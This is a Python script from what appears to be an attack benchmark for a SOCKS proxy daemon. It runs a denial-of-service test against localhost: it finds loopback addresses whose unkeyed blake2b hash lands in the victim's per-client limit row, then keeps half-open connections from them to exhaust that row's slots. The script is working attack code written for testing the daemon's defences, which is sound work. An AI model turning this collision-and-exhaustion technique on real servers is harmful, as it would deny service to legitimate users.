"""Connections from addresses that were chosen to be counted as a victim's, where the hash has no key.

`python -m bench.attacks.forged_rows`
"""

import contextlib
import socket
import sys
import time
from collections.abc import Iterator
from hashlib import blake2b
from itertools import count, islice

from bench.attacks.harness import PATIENCE, USOCKSD, Attack, by_address, echo_server, echoed, run

ECHO = 7000
VICTIM = "127.0.0.1"
PER_CLIENT = 8
ADDRESSES = 4


@contextlib.contextmanager
def servers() -> Iterator[None]:
    with echo_server(port=ECHO):
        yield


def _row(client: str) -> int:
    """The hash without a key, which anybody can compute."""
    return int.from_bytes(blake2b(client.encode(), digest_size=4).digest()) % ((1 << 14) - 1)


def accomplices() -> Iterator[str]:
    """Addresses that share the victim's row."""
    for number in count(1 << 8):
        address = socket.inet_ntoa((0x7F000000 + number).to_bytes(4, "big"))
        if _row(address) == _row(VICTIM):
            yield address


def attack(port: int) -> None:
    """Few connections from each, kept open in their handshake, and opened again when they are ended."""
    chosen = list(islice(accomplices(), ADDRESSES)) * (PER_CLIENT // ADDRESSES)
    kept: list[tuple[str, socket.socket]] = []
    while True:
        for address in chosen:
            sock = socket.socket()
            sock.settimeout(PATIENCE)
            sock.bind((address, 0))
            with contextlib.suppress(OSError):
                sock.connect(("127.0.0.1", port))
            kept.append((address, sock))
        time.sleep(5)  # half of the time for a handshake
        for _, sock in kept[: -len(chosen)]:
            sock.close()
        del kept[: -len(chosen)]


def main() -> int:
    return run(
        Attack(
            name="forged_rows",
            config=f"{USOCKSD}[limits]\nper_client = {PER_CLIENT}\n",
            good=lambda port: echoed(port, by_address("127.0.0.1", ECHO)),
            attack=attack,
            setup=servers,
        )
    )


if __name__ == "__main__":
    sys.exit(main())
